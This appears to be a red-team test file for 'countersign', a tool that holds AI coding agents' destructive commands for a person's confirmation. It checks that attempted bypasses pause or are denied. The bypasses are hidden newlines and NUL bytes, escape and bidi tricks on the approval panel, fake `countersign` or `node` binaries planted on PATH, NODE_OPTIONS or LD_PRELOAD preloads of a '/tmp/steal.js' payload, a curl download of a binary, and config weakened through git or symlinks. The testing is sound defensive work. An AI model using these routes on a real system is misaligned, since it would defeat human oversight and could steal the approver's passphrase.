// Red team rt22y: the confirm path again, by routes rt22x did not take: what the agents' hooks are
// given (NULs, newlines, escapes and bidi controls, very long text, each agent's payload), two
// requests waiting at once, countersign's own launch path (a `countersign` or `node` ahead of the
// real one on PATH, code preloaded into it through NODE_OPTIONS or LD_PRELOAD from a startup
// file), and protection weakened without a person (the team file through git or a symlink, with
// and without a signed snapshot; `countersign init` re-run; a mark's file deleted by a tool
// countersign doesn't hook). Each attempt runs for real: a waiting or no-wait `countersign -c`,
// the agents' hooks as real processes, a real pty for the person's `countersign approve`, a real
// approver key whose passphrase only the "person" side uses. Results: rt22y-numbers.md.
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import * as ap from '../../src/confirm/approvals.js';
import * as keys from '../../src/keys/index.js';
import { claudePayload, codexPayload, cursorPayload, geminiPayload } from '../agents/payloads.js';
import { PASSPHRASE, approveInTerminal, makeApprover, type TestApprover } from '../helpers/approver.js';
import { BIN, auditLines, checkJson, makeFixture, pendingIds, run, runCountersign, type Fixture, type RanHashed } from '../helpers/fixture.js';
import { spawnPty, type PtyProcess } from '../helpers/pty.js';
import { trustNow } from '../helpers/trust.js';

const CMD = 'rm -rf data';
const CODEX = { CODEX_THREAD_ID: 'thread-1', CODEX_CI: '1' };

let fx: Fixture;
let person: TestApprover;
let procs: PtyProcess[] = [];
/** A directory of the person's own programs, first on PATH (as ~/.local/bin is on most systems). */
let localBin: string;

beforeEach(() => {
  fx = makeFixture();
  person = makeApprover(fx.config);
  keys.trustAnchor(fx.env(), fx.home, fx.csState);
  fx.userConfig('confirm:\n  approval-timeout: 8\n');
  localBin = path.join(fx.home, '.local', 'bin');
  mkdirSync(localBin, { recursive: true });
  procs = [];
});

afterEach(() => {
  for (const p of procs) p.kill();
  fx.cleanup();
});

const dataIntact = (): boolean => existsSync(path.join(fx.data, 'db.sqlite')) && existsSync(path.join(fx.data, 'sub', 'keep.txt'));
const audit = (): Array<Record<string, unknown>> => auditLines(fx).map((l) => JSON.parse(l) as Record<string, unknown>);
/** The agent's environment: its markers, and the person's PATH with ~/.local/bin first. */
const agentEnv = (extra: Record<string, string | undefined> = {}): Record<string, string> => fx.env({ CI: undefined, ...CODEX, PATH: `${localBin}:${process.env.PATH ?? '/usr/bin:/bin'}`, ...extra });

function pty(file: string, args: string[], env: Record<string, string | undefined> = {}, cwd = fx.repo): PtyProcess {
  const p = spawnPty(file, args, { cwd, env: fx.env({ TERM: 'xterm-256color', ...env }) });
  procs.push(p);
  return p;
}

/** The agent's tool: `countersign -c CMD` with no terminal, Codex's markers (no wait). */
function agentRun(cmd: string, cwd = fx.repo, extra: Record<string, string | undefined> = {}): Promise<RanHashed> {
  return runCountersign(['-c', cmd], { cwd, env: agentEnv(extra), detached: true });
}

const HOOKS = {
  claude: claudePayload,
  cursor: cursorPayload,
  gemini: geminiPayload,
  codex: codexPayload,
} as const;
type Agent = keyof typeof HOOKS;
function hook(agent: Agent, cmd: string): Promise<RanHashed> {
  return run(BIN, ['hook', agent], { cwd: fx.repo, env: fx.env({ CI: 'true' }), input: HOOKS[agent](cmd, fx.repo), detached: true });
}
const denied = (r: RanHashed): boolean => /"(permissionDecision|permission|decision)":"deny"/.test(r.out);

/** The person runs `countersign approve ID` in a terminal of their own and types what it asks. */
function personApproves(id: string): Promise<{ raw: string; text: string; code: number }> {
  return approveInTerminal(pty(BIN, ['approve', id], {}, fx.home));
}

describe("what the agents' hooks are given", () => {
  for (const agent of Object.keys(HOOKS) as Agent[]) {
    it(`${agent}: a NUL byte before \`rm -rf data\` is denied, not cut off where a C string would end`, async () => {
      const r = await hook(agent, 'ls\0; rm -rf data');
      expect(denied(r)).toBe(true);
      expect(dataIntact()).toBe(true);
    });

    it(`${agent}: \`rm -rf data\` on a second line is denied, and the request the person sees shows both lines`, async () => {
      const r = await hook(agent, 'ls\nrm -rf data');
      expect(denied(r)).toBe(true);
      const p = ap.getPending(fx.csState, pendingIds(fx)[0]!)!;
      expect(p.command).toBe('ls\nrm -rf data');
      expect(p.findings.map((f) => f.rule)).toContain('filesystem/rm-protected');
    });
  }

  it('claude: `rm -rf data` after 200 000 characters of harmless text is denied', async () => {
    expect(denied(await hook('claude', `echo ${'a'.repeat(200_000)}; ${CMD}`))).toBe(true);
    expect(dataIntact()).toBe(true);
  });

  it('escape sequences and bidi controls in the command are drawn visibly in the approver, so they cannot erase or reverse what the person reads', async () => {
    // ESC[2K ESC[1A would erase the line and move up; U+202E would show the rest reversed.
    const cmd = "rm -rf data # \x1b[2K\x1b[1A\r\u202e bus/atad";
    expect((await agentRun(cmd)).code).toBe(126);
    const id = pendingIds(fx)[0]!;
    const r = await personApproves(id);
    expect(r.raw).not.toContain('\x1b[2K\x1b[1A\r');
    expect(r.raw).not.toContain('\u202e');
    expect(r.text).toContain('\\e[2K\\e[1A\\r\\u202e');
    expect(r.text).toContain('delete data in local');
    // The person typed the phrase for what the panel showed: that is what runs, once.
    expect((await agentRun(cmd)).code).toBe(0);
    expect(existsSync(fx.data)).toBe(false);
  });

  it('a command longer than the panel shows: the cut-off tail is still named by its finding and the phrase', async () => {
    const cmd = `echo ${'x'.repeat(500)} && ${CMD}`;
    expect((await agentRun(cmd)).code).toBe(126);
    const id = pendingIds(fx)[0]!;
    const p = pty(BIN, ['approve', id], {}, fx.home);
    await p.waitFor('Approver passphrase');
    await p.type(PASSPHRASE);
    p.write('\r');
    const seen = await p.waitFor('Type the phrase');
    expect(seen).toContain('...');
    expect(seen).toContain('filesystem/rm-protected');
    expect(seen).toMatch(/data is protected/);
    expect(seen).toContain('delete data in local');
    p.write('\x03');
    await p.exit();
    expect(dataIntact()).toBe(true);
  });
});

describe('two requests waiting at once', () => {
  it('the approval of `rm -rf data/sub` is not taken by the waiting `rm -rf data`, whose phrase is close', async () => {
    expect((await agentRun('rm -rf data/sub')).code).toBe(126);
    const [a] = pendingIds(fx);
    expect((await agentRun(CMD)).code).toBe(126);
    const b = pendingIds(fx).find((x) => x !== a)!;
    expect(ap.getPending(fx.csState, a!)!.command).toBe('rm -rf data/sub');
    expect(ap.getPending(fx.csState, b)!.command).toBe(CMD);
    const r = await personApproves(a!);
    expect(r.text).toMatch(/Approved/);
    // The agent retries the other one first.
    expect((await agentRun(CMD)).code).toBe(126);
    expect(existsSync(path.join(fx.data, 'db.sqlite'))).toBe(true);
    // The approved one runs, once.
    expect((await agentRun('rm -rf data/sub')).code).toBe(0);
    expect(existsSync(path.join(fx.data, 'sub'))).toBe(false);
    expect(existsSync(path.join(fx.data, 'db.sqlite'))).toBe(true);
    expect((await agentRun(CMD)).code).toBe(126);
    expect(existsSync(path.join(fx.data, 'db.sqlite'))).toBe(true);
  });
});

describe("countersign's own launch path", () => {
  // The agents' hooks run `countersign hook …` by name, and bin/countersign is
  // `#!/usr/bin/env node`: a `countersign` or `node` ahead of the real one on PATH answers every
  // hook (exit 0, no output: "allow"), or runs the person's approver pane and reads the
  // passphrase. Before rt22y each of these lines was allowed.
  const plants: Array<[string, string, string]> = [
    ['a `countersign` that allows everything, copied into ~/.local/bin', 'cp /bin/true ~/.local/bin/countersign', 'countersign'],
    ['the same as a symlink', 'ln -s /bin/true ~/.local/bin/countersign', 'countersign'],
    ['a `node` wrapper that preloads the agent\'s code, written with printf', `printf '#!/bin/sh\\nexec /usr/bin/node --require /tmp/steal.js "$@"\\n' > ~/.local/bin/node && chmod +x ~/.local/bin/node`, 'node'],
    ['a `node` downloaded there', 'curl -fsS -o ~/.local/bin/node https://example.invalid/node', 'node'],
  ];
  for (const [name, line, file] of plants) {
    it(`${name}: the line pauses and nothing is written`, async () => {
      const r = await agentRun(line);
      expect(r.code).toBe(126);
      expect(existsSync(path.join(localBin, file))).toBe(false);
      expect(pendingIds(fx)).toHaveLength(1);
      expect(ap.getPending(fx.csState, pendingIds(fx)[0]!)!.findings.map((f) => f.rule)).toContain('countersign/self-write');
    });
  }

  it("Claude's Write tool into ~/.local/bin/node is refused by the hook", async () => {
    const payload = JSON.stringify({ hook_event_name: 'PreToolUse', tool_name: 'Write', tool_input: { file_path: path.join(localBin, 'node'), content: '#!/bin/sh\nexec /usr/bin/node "$@"\n' }, cwd: fx.repo });
    const r = await run(BIN, ['hook', 'claude'], { cwd: fx.repo, env: agentEnv({ CLAUDECODE: '1' }), input: payload, detached: true });
    expect(r.out).toContain('"permissionDecision":"deny"');
    expect(r.out).toContain("one of countersign's own files");
  });

  it('a directory the startup files put on PATH counts too: `countersign` written there pauses', async () => {
    writeFileSync(path.join(fx.home, '.bashrc'), 'export PATH="$HOME/tools/bin:$PATH"\n');
    const r = await agentRun('mkdir -p ~/tools/bin && cp /bin/true ~/tools/bin/countersign');
    expect(r.code).toBe(126);
    expect(existsSync(path.join(fx.home, 'tools', 'bin', 'countersign'))).toBe(false);
    // An everyday tool written there is not held up.
    expect((await agentRun('mkdir -p ~/tools/bin && cp /bin/true ~/tools/bin/mytool')).code).toBe(0);
  });

  // Route 18 (fixed in session 23): bin/countersign is `#!/usr/bin/env node`, so the `node` a
  // startup file's PATH finds first runs the person's approver pane.
  it('a `node` wrapper put in a directory not on PATH, then that directory added to ~/.bashrc: the PATH line pauses', async () => {
    const tools = path.join(fx.home, 'tools');
    mkdirSync(tools, { recursive: true });
    writeFileSync(path.join(tools, 'node'), '#!/bin/sh\nexec /usr/bin/node --require /tmp/steal.js "$@"\n', { mode: 0o755 });
    const r = await agentRun(`echo 'export PATH="$HOME/tools:$PATH"' >> ~/.bashrc`);
    expect(r.code).toBe(126);
    expect(existsSync(path.join(fx.home, '.bashrc')) && readFileSync(path.join(fx.home, '.bashrc'), 'utf8').includes('tools')).toBe(false);
    // Written and added in one line: the same.
    const r2 = await agentRun(`mkdir -p ~/t2 && printf '#!/bin/sh\\nexec node "$@"\\n' > ~/t2/node && chmod +x ~/t2/node && echo 'export PATH=~/t2:$PATH' >> ~/.profile`);
    expect(r2.code).toBe(126);
    expect(existsSync(path.join(fx.home, 't2', 'node'))).toBe(false);
  });

  it("a version manager's directory holding a real node binary is added to ~/.bashrc without a pause", async () => {
    const nvm = path.join(fx.home, '.nvm', 'versions', 'node', 'v20.0.0', 'bin');
    mkdirSync(nvm, { recursive: true });
    symlinkSync(realpathSync(process.execPath), path.join(nvm, 'node'));
    const r = await agentRun(`echo 'export PATH="$HOME/.nvm/versions/node/v20.0.0/bin:$PATH"' >> ~/.bashrc`);
    expect(r.code).toBe(0);
    expect(readFileSync(path.join(fx.home, '.bashrc'), 'utf8')).toContain('.nvm/versions');
  });

  const preloads: Array<[string, string, string]> = [
    ['NODE_OPTIONS --require exported from ~/.bashrc', `echo 'export NODE_OPTIONS="--require /tmp/steal.js"' >> ~/.bashrc`, '.bashrc'],
    ['NODE_OPTIONS --import written into ~/.zshenv with printf', `printf 'export NODE_OPTIONS=--import=/tmp/steal.mjs\\n' >> ~/.zshenv`, '.zshenv'],
    ['LD_PRELOAD exported from ~/.profile', `echo 'export LD_PRELOAD=/tmp/steal.so' >> ~/.profile`, '.profile'],
  ];
  for (const [name, line, file] of preloads) {
    it(`${name} (the person's next approver pane would load the agent's code): the line pauses`, async () => {
      const r = await agentRun(line);
      expect(r.code).toBe(126);
      expect(existsSync(path.join(fx.home, file))).toBe(false);
      expect(ap.getPending(fx.csState, pendingIds(fx)[0]!)!.findings.map((f) => f.rule)).toContain('countersign/self-preload');
    });
  }

  it('an everyday NODE_OPTIONS in ~/.bashrc is not held up', async () => {
    expect((await agentRun(`echo 'export NODE_OPTIONS=--max-old-space-size=8192' >> ~/.bashrc`)).code).toBe(0);
    expect(readFileSync(path.join(fx.home, '.bashrc'), 'utf8')).toContain('max-old-space-size');
  });

  it('a nested countersign given NODE_OPTIONS --require or LD_PRELOAD pauses', async () => {
    writeFileSync(path.join(fx.repo, 'x.js'), 'module.exports = 1;\n');
    for (const line of ['NODE_OPTIONS="--require ./x.js" countersign -c ls', 'LD_PRELOAD=./x.so countersign -c ls']) {
      expect((await checkJson(fx, line)).findings.map((f) => f.rule)).toContain('countersign/self-preload');
    }
  });
});

describe('protection weakened without a person', () => {
  function gitRepo(): void {
    const g = (...a: string[]): void => {
      execFileSync('git', ['-c', 'user.email=t@t', '-c', 'user.name=t', ...a], { cwd: fx.repo, stdio: 'ignore' });
    };
    g('init', '-q', '-b', 'main');
    writeFileSync(path.join(fx.repo, '.gitignore'), 'data/\n');
    g('add', '.');
    g('commit', '-qm', 'main');
    g('checkout', '-q', '-b', 'other');
    writeFileSync(path.join(fx.repo, '.countersign.yaml'), 'extends: [recommended]\n');
    g('commit', '-qam', 'no protection');
    g('checkout', '-q', 'main');
  }

  // rt23w: a line that changes the team file pauses itself now (it is countersign's own file); the
  // change is then made as the agent's file tool or a person would, and the floor still holds.
  it('with a signed snapshot, `git checkout other -- .countersign.yaml` pauses, and done anyway it does not lift the protection: the union applies until `countersign trust`', async () => {
    gitRepo();
    await trustNow({ env: fx.env(), home: fx.home, cwd: fx.repo });
    expect((await agentRun('git checkout other -- .countersign.yaml')).code).toBe(126);
    execFileSync('git', ['checkout', 'other', '--', '.countersign.yaml'], { cwd: fx.repo, stdio: 'ignore' });
    expect(readFileSync(path.join(fx.repo, '.countersign.yaml'), 'utf8')).not.toContain('protected-paths');
    expect((await agentRun(CMD)).code).toBe(126);
    expect(dataIntact()).toBe(true);
  });

  it('with a signed snapshot, the team file replaced by a symlink to /dev/null pauses, and done anyway does not lift it either', async () => {
    await trustNow({ env: fx.env(), home: fx.home, cwd: fx.repo });
    expect((await agentRun('ln -sf /dev/null .countersign.yaml')).code).toBe(126);
    rmSync(path.join(fx.repo, '.countersign.yaml'));
    symlinkSync('/dev/null', path.join(fx.repo, '.countersign.yaml'));
    expect((await agentRun(CMD)).code).toBe(126);
    expect(dataIntact()).toBe(true);
  });

  // Route 26, fixed by the lead (trust on first use, load.ts firstSeenTeam): the team files as
  // countersign first saw them are a floor until someone signs.
  it('with no signed snapshot, `git checkout other -- .countersign.yaml` or a file-tool edit does not lift the protection countersign first saw: it waits for `countersign trust`', async () => {
    gitRepo();
    expect((await agentRun('git checkout other -- .countersign.yaml')).code).toBe(126);
    execFileSync('git', ['checkout', 'other', '--', '.countersign.yaml'], { cwd: fx.repo, stdio: 'ignore' });
    expect(readFileSync(path.join(fx.repo, '.countersign.yaml'), 'utf8')).not.toContain('protected-paths');
    expect((await agentRun(CMD)).code).toBe(126);
    // The agent's file tool (no command line at all): the same floor.
    writeFileSync(path.join(fx.repo, '.countersign.yaml'), 'extends: [recommended]\n');
    expect((await agentRun(CMD)).code).toBe(126);
    expect(dataIntact()).toBe(true);
    // A change that only adds applies at once, and the floor follows it.
    writeFileSync(path.join(fx.repo, '.countersign.yaml'), 'protected-paths: [data, logs]\n');
    mkdirSync(path.join(fx.repo, 'logs'), { recursive: true });
    expect((await agentRun('rm -rf logs')).code).toBe(126);
    writeFileSync(path.join(fx.repo, '.countersign.yaml'), 'protected-paths: [data]\n');
    expect((await agentRun('rm -rf logs')).code).toBe(126);
    // Signed by the person: what they signed applies.
    await trustNow({ env: fx.env(), home: fx.home, cwd: fx.repo });
    expect((await agentRun('rm -rf logs')).code).toBe(0);
  });

  it('`countersign init` re-run by the agent leaves the team file as it is; `--machine workstation` waits for trust', async () => {
    writeFileSync(path.join(fx.repo, '.countersign.yaml'), 'protected-paths: [data]\nmachine:\n  - { environment: production, hosts: ["*"] }\n');
    const before = readFileSync(path.join(fx.repo, '.countersign.yaml'), 'utf8');
    expect((await checkJson(fx, CMD)).findings[0]!.target.environment).toBe('production');
    const r = await runCountersign(['init', '--machine', 'workstation'], { cwd: fx.repo, env: agentEnv(), detached: true });
    expect(r.code).toBe(0);
    expect(readFileSync(path.join(fx.repo, '.countersign.yaml'), 'utf8')).toBe(before);
    expect(readFileSync(path.join(fx.config, 'countersign', 'config.yaml'), 'utf8')).toContain('machine: workstation');
    expect((await checkJson(fx, CMD)).findings[0]!.target.environment).toBe('production');
    expect((await agentRun(CMD)).code).toBe(126);
    expect(dataIntact()).toBe(true);
  });

  describe('a directory marked with `countersign mark`', () => {
    let vault: string;
    beforeEach(async () => {
      vault = path.join(fx.repo, 'vault');
      mkdirSync(vault);
      writeFileSync(path.join(vault, 'secrets.db'), 'precious\n');
      const r = await runCountersign(['mark', 'vault'], { cwd: fx.repo, env: fx.env() });
      expect(r.code).toBe(0);
    });

    it('deleting or moving its marker from a line pauses', async () => {
      for (const line of ['rm vault/.countersign-protected', 'mv vault/.countersign-protected /tmp/', 'find vault -name .countersign-protected -delete', 'git stash -u && git stash drop']) {
        expect((await checkJson(fx, line)).decision).toBe('confirm');
      }
    });

    it('its marker deleted by a tool countersign does not hook (an agent\'s delete, apply_patch): the registry keeps it protected', async () => {
      rmSync(path.join(vault, '.countersign-protected'));
      expect((await agentRun('rm -rf vault')).code).toBe(126);
      expect(existsSync(path.join(vault, 'secrets.db'))).toBe(true);
      expect(ap.getPending(fx.csState, pendingIds(fx)[0]!)!.findings.map((f) => f.detail).join(' ')).toContain('countersign mark');
    });
  });

  it.skip("the team file's signed snapshot deleted, or a forged compiled-config cache, by a program countersign doesn't see (outside: README \"countersign's own state can be changed by a same-user program it doesn't see\")", () => {});
  it.skip('a rule file named by a relative `extends:` outside .countersign/ edited to drop its rules (outside: README "Rule files named by a relative `extends:` outside `.countersign/` … are read from disk, not from the signed snapshot")', () => {});
});

describe('the request the person expects', () => {
  it.skip('the agent tells the person "approve the cleanup I mentioned" and makes a request for `rm -rf data` (outside: README "A person who types the phrase and the passphrase without reading the panel"; the panel and the phrase name data)', () => {});
});
